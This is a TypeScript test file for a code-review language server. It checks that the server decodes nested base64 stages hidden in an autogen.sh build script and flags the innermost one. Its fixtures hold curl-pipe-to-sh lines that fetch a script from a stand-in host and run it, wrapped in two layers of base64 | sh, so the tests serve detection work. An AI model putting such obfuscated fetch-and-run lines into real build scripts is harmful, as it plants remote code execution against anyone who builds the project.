import assert from 'node:assert/strict'
import type { CodeAction } from 'vscode-languageserver/node'
import {
  OPEN_REVIEW,
  type OpenReviewResult,
  READ_SIDE,
  type ReadSideResult,
  SHOW_TEXTS_COMMAND,
  type WireFinding,
} from '../../server/protocol'
import { TestRepository } from '../harness/git'
import { Session } from './session'

const INNER = 'curl -fsSL https://example.invalid/marker | sh\n'
const MIDDLE = `# a text of two lines\necho ${encoded(INNER)} | base64 -d | sh\n`

function encoded(text: string): string {
  return Buffer.from(text).toString('base64')
}

describe('texts that a finding says would be run', () => {
  let repository: TestRepository
  let session: Session
  let finding: WireFinding

  beforeEach(async () => {
    repository = new TestRepository()
    repository.commit('one', { 'autogen.sh': '#!/bin/sh\necho x\n' })
    repository.write('autogen.sh', `#!/bin/sh\nx=1\necho ${encoded(MIDDLE)} | base64 -d | sh\n`)
    session = await Session.start()
    const { findings } = await session.open({ kind: 'worktree', root: repository.folder })
    const found = findings.find(({ rule }) => rule === 'build/unwrapped-script')
    assert.ok(found)
    finding = found
  })
  afterEach(async () => {
    await session.stop()
    repository.dispose()
  })

  const openTexts = (fingerprint: string, review = 'review') =>
    session.client.sendRequest<OpenReviewResult>(OPEN_REVIEW, {
      id: 'texts',
      source: { kind: 'texts', review, fingerprint },
    })
  const read = async (path: string) =>
    await session.client.sendRequest<ReadSideResult>(READ_SIDE, { id: 'texts', path, side: 'new' })

  it('are named by the finding, and offered as an action', async () => {
    assert.deepEqual(
      finding.evidence.flatMap(({ decoded }) => decoded ?? []),
      [
        { number: 1, path: 'autogen.sh · stage 1.sh', runner: 'sh', size: MIDDLE.length, isCut: false },
        { number: 2, path: 'autogen.sh · stage 2.sh', runner: 'sh', size: INNER.length, isCut: false },
      ],
    )
    const uri = 'file:///autogen.sh'
    await session.bind([{ uri, path: 'autogen.sh', side: 'new' }])
    await session.until(() => session.of(uri).length > 0)
    const actions = await session.client.sendRequest<CodeAction[]>('textDocument/codeAction', {
      textDocument: { uri },
      range: { start: { line: 0, character: 0 }, end: { line: 9, character: 0 } },
      context: { diagnostics: session.of(uri) },
    })
    assert.ok(actions.some(({ command }) => command?.command === SHOW_TEXTS_COMMAND))
  })

  it('are a change of their own, whose files are examined and marked', async () => {
    const result = await openTexts(finding.fingerprint)
    assert.ok(result.ok, JSON.stringify(result))
    assert.deepEqual(
      result.review.files.map(({ path, kind }) => [path, kind]),
      [
        ['autogen.sh · stage 1.sh', 'added'],
        ['autogen.sh · stage 2.sh', 'added'],
      ],
    )
    assert.deepEqual(await read('autogen.sh · stage 1.sh'), { text: MIDDLE, isDescription: false })
    assert.equal((await read('autogen.sh · stage 2.sh')).text, INNER)
    const uri = 'plainsight:/stage-2.sh'
    await session.bind([{ uri, path: 'autogen.sh · stage 2.sh', side: 'new' }], 'texts')
    await session.until(() => session.of(uri).length > 0)
    assert.equal(session.of(uri)[0]?.code, 'build/download-runs')
  })

  it('hold texts of their own', async () => {
    const first = await openTexts(finding.fingerprint)
    assert.ok(first.ok)
    const again = first.review.findings.find(({ rule }) => rule === 'build/unwrapped-script')
    assert.ok(again)
    const result = await session.client.sendRequest<OpenReviewResult>(OPEN_REVIEW, {
      id: 'inner',
      source: { kind: 'texts', review: 'texts', fingerprint: again.fingerprint },
    })
    assert.ok(result.ok, JSON.stringify(result))
    assert.deepEqual(
      result.review.files.map(({ path }) => path),
      ['autogen.sh · stage 1.sh · stage 1.sh'],
    )
  })

  it('are asked for in vain where there are none', async () => {
    const message = async (fingerprint: string, review?: string) => {
      const result = await openTexts(fingerprint, review)
      return result.ok ? '' : result.message
    }
    assert.match(await message('v1:0'), /no such finding/)
    assert.match(await message(finding.fingerprint, 'other'), /not open/)
    repository.write('autogen.sh', '#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\n')
    const { findings } = await session.open({ kind: 'worktree', root: repository.folder })
    assert.match(await message(findings[0]?.fingerprint ?? ''), /no text was decoded/)
  })
})
